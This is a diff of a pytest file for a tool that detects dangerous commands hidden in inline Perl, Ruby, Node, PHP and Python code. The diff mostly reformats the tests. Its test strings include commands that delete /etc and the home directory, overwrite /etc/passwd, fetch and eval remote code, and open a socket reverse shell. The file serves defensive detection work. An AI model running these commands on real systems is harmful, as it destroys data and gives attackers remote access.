@@ -86,28 +86,30 @@ def test_python(form: str, code: str, expected: str) -> None:
         ("perl -MFile::Path -e 'rmtree(\"/etc\")'", "rm -r /etc"),
         ("perl -MFile::Path=remove_tree -e 'remove_tree(q{/etc})'", "rm -r /etc"),
         ("perl -le 'system(\"rm -rf /etc\")'", "rm -rf /etc"),
-        ("perl -e 'system(\"rm\", \"-rf\", \"/etc\")'", "rm -rf /etc"),
+        ('perl -e \'system("rm", "-rf", "/etc")\'', "rm -rf /etc"),
         ("perl -e 'exec q(rm -rf /etc)'", "rm -rf /etc"),
         ("perl -e '`rm -rf /etc`'", "rm -rf /etc"),
-        ("perl -e '$d=\"/etc\"; system(\"rm -rf $d\")'", "rm -rf /etc"),
+        ('perl -e \'$d="/etc"; system("rm -rf $d")\'', "rm -rf /etc"),
         ("perl -e 'system(\"rm -rf $ENV{HOME}\")'", "rm -rf ~"),
         ("perl <<'E'\nsystem('rm -rf /etc');\nE", "rm -rf /etc"),
-        ("ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/etc\")'", "rm -r /etc"),
+        ('ruby -e \'require "fileutils"; FileUtils.rm_rf("/etc")\'', "rm -r /etc"),
         ("ruby -rfileutils -e 'FileUtils.rm_rf \"/etc\"'", "rm -r /etc"),
         ("ruby -e 'FileUtils.rm_rf(Dir.home)'", "rm -r ~"),
         ("ruby -e 'system(\"rm -rf /etc\")'", "rm -rf /etc"),
-        ("ruby -e 'system \"rm\", \"-rf\", \"/etc\"'", "rm -rf /etc"),
+        ('ruby -e \'system "rm", "-rf", "/etc"\'', "rm -rf /etc"),
         ("ruby -e '`rm -rf /etc`'", "rm -rf /etc"),
         ("ruby -e '%x{rm -rf /etc}'", "rm -rf /etc"),
         ("ruby -e 'Dir.glob(\"/etc/*\").each { |f| File.delete(f) }'", "rm /etc/*"),
-        ("ruby -e 'File.write(\"/etc/passwd\", \"x\")'", "tee /etc/passwd"),
+        ('ruby -e \'File.write("/etc/passwd", "x")\'', "tee /etc/passwd"),
         ("node -e \"require('fs').rmSync('/etc', {recursive: true, force: true})\"", "rm -r /etc"),
         ("node -e \"const fs = require('fs'); fs.rmdirSync('/etc', { recursive: true })\"", "rm -r /etc"),
         ("node -e \"require('fs').unlinkSync('/etc/x')\"", "rm /etc/x"),
         ("node -e \"require('child_process').execSync('rm -rf /etc')\"", "rm -rf /etc"),
         ("node -e \"require('child_process').spawnSync('rm', ['-rf', '/etc'])\"", "rm -rf /etc"),
-        ("node -e 'const {execSync: e} = require(\"child_process\"); require(\"child_process\").exec(`rm -rf /etc`)'",
-         "rm -rf /etc"),
+        (
+            'node -e \'const {execSync: e} = require("child_process"); require("child_process").exec(`rm -rf /etc`)\'',
+            "rm -rf /etc",
+        ),
         ("node --eval=\"require('fs').rmSync(process.env.HOME, {recursive:true})\"", "rm -r ~"),
         ("node -p \"require('fs').writeFileSync('/etc/passwd', '')\"", "tee /etc/passwd"),
         ("node -e \"require('fs').rmSync(require('os').homedir(), {recursive: true})\"", "rm -r ~"),
@@ -117,14 +119,14 @@ def test_python(form: str, code: str, expected: str) -> None:
         ("deno eval \"Deno.removeSync('/etc', { recursive: true })\"", "rm -r /etc"),
         ("php -r 'unlink(\"/etc/x\");'", "rm /etc/x"),
         ("php -r 'system(\"rm -rf /etc\");'", "rm -rf /etc"),
-        ("php -r 'shell_exec(\"rm -rf \" . \"/etc\");'", "rm -rf /etc"),
-        ("php -r 'array_map(\"unlink\", glob(\"/etc/*\"));'", "rm /etc/*"),
-        ("php -r 'file_put_contents(\"/etc/passwd\", \"\");'", "tee /etc/passwd"),
+        ('php -r \'shell_exec("rm -rf " . "/etc");\'', "rm -rf /etc"),
+        ('php -r \'array_map("unlink", glob("/etc/*"));\'', "rm /etc/*"),
+        ('php -r \'file_put_contents("/etc/passwd", "");\'', "tee /etc/passwd"),
         ("lua -e 'os.execute(\"rm -rf /etc\")'", "rm -rf /etc"),
         ("osascript -e 'do shell script \"rm -rf /etc\"'", "rm -rf /etc"),
         ("python3 -m pip uninstall -y x", "pip uninstall -y x"),
     ],
-)  # fmt: skip
+)
 def test_other_languages(text: str, expected: str) -> None:
     assert expected in lines(text)
 
@@ -132,13 +134,22 @@ def test_other_languages(text: str, expected: str) -> None:
 @pytest.mark.req("X-09")
 @pytest.mark.parametrize(
     "text",
-    ["python3 -c \"import os; print('rm -rf /')\"", "python3 -c 'open(\"x\").read()'",
-     "python3 s.py -c 'import os; os.remove(1)'",
-     "python3 -c 'print(shutil.rmtree)'", "node -e 'console.log(\"rm -rf /etc\")'", "perl -ne 'print if /unlink/' f",
-     "ruby -e 'puts \"system\"'", "perl -pe 's/a/b/' f", "python3 -m json.tool", "node -e 'x.replace(/rm -rf/, 1)'",
-     "php -r 'echo \"rm -rf /\";'", "grep 'os.system(\"rm -rf /\")' f",
-     "python3 -c 'd = {}; d.get(\"x\").replace(\"a\", \"b\")'"],
-)  # fmt: skip
+    [
+        "python3 -c \"import os; print('rm -rf /')\"",
+        "python3 -c 'open(\"x\").read()'",
+        "python3 s.py -c 'import os; os.remove(1)'",
+        "python3 -c 'print(shutil.rmtree)'",
+        "node -e 'console.log(\"rm -rf /etc\")'",
+        "perl -ne 'print if /unlink/' f",
+        "ruby -e 'puts \"system\"'",
+        "perl -pe 's/a/b/' f",
+        "python3 -m json.tool",
+        "node -e 'x.replace(/rm -rf/, 1)'",
+        "php -r 'echo \"rm -rf /\";'",
+        "grep 'os.system(\"rm -rf /\")' f",
+        'python3 -c \'d = {}; d.get("x").replace("a", "b")\'',
+    ],
+)
 def test_code_that_does_no_harm_runs_no_command(text: str) -> None:
     assert not any(one.program in ("rm", "tee", "mv", "rmdir") for one in commands(text).items)
 
@@ -149,11 +160,15 @@ def test_code_that_does_no_harm_runs_no_command(text: str) -> None:
     [
         ("python3 -c \"import urllib.request as u; exec(u.urlopen('http://x').read())\"", "curl"),
         ("python3 -c \"import requests\nx = requests.get('http://x').text\nexec(x)\"", "curl"),
-        ("python3 -c \"from urllib.request import urlopen; import os; os.system(urlopen('http://x').read().decode())\"",
-         "curl"),
+        (
+            "python3 -c \"from urllib.request import urlopen; import os; os.system(urlopen('http://x').read().decode())\"",
+            "curl",
+        ),
         ("python3 -c \"import base64; exec(base64.b64decode(open('f').read()))\"", "base64"),
-        ("python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('sh')\"",
-         "nc"),
+        (
+            "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('sh')\"",
+            "nc",
+        ),
         ("perl -MLWP::Simple -e 'eval get(\"http://x\")'", "curl"),
         ("ruby -ropen-uri -e 'eval URI.open(\"http://x\").read'", "curl"),
         ("node -e \"fetch('http://x').then(r => r.text()).then(eval)\"", "curl"),
@@ -161,9 +176,9 @@ def test_code_that_does_no_harm_runs_no_command(text: str) -> None:
         ("node -e 'eval(atob(\"eA==\"))'", "base64"),
         ("curl http://x | node", "curl"),
         ("curl http://x | python3 -", "curl"),
-        ("ruby -e \"$(curl http://x)\"", "curl"),
+        ('ruby -e "$(curl http://x)"', "curl"),
     ],
-)  # fmt: skip
+)
 def test_code_from_the_network(text: str, source: str) -> None:
     assert any(source in one.code_from for one in commands(text).items)
 
@@ -172,11 +187,29 @@ def test_code_from_the_network(text: str, source: str) -> None:
 @pytest.mark.timeout(20)
 @pytest.mark.parametrize(
     "code",
-    ["x='a'*9\n" + "x=x+x\n" * 200, "(" * 5000, "f(" * 900, "[" * 80 + "]" * 80, "x=" + "+".join(["'a'"] * 3000),
-     "unlink(" * 8000, "a:a " * 16000, "open " * 12000, "find(" * 12000, "\n" * 60000, "eval '" * 10000, "['a'" * 12000,
-     "def f(p): f(f(p))\n" * 400, "require('" * 6000, "{a: b} = import " * 4000, "`" * 60000, "\ue000 = 1", "\0",
-     "exec(" * 50 + "'1'" + ")" * 50, "x=1\n" * 20000],
-)  # fmt: skip
+    [
+        "x='a'*9\n" + "x=x+x\n" * 200,
+        "(" * 5000,
+        "f(" * 900,
+        "[" * 80 + "]" * 80,
+        "x=" + "+".join(["'a'"] * 3000),
+        "unlink(" * 8000,
+        "a:a " * 16000,
+        "open " * 12000,
+        "find(" * 12000,
+        "\n" * 60000,
+        "eval '" * 10000,
+        "['a'" * 12000,
+        "def f(p): f(f(p))\n" * 400,
+        "require('" * 6000,
+        "{a: b} = import " * 4000,
+        "`" * 60000,
+        "\ue000 = 1",
+        "\0",
+        "exec(" * 50 + "'1'" + ")" * 50,
+        "x=1\n" * 20000,
+    ],
+)
 def test_hostile_code_takes_bounded_time(code: str) -> None:
     for program in ("python3 -c", "perl -e", "node -e", "ruby -e", "tclsh -c", "psql -c"):
         commands(f"{program} '" + code.replace("'", '"') + "'")
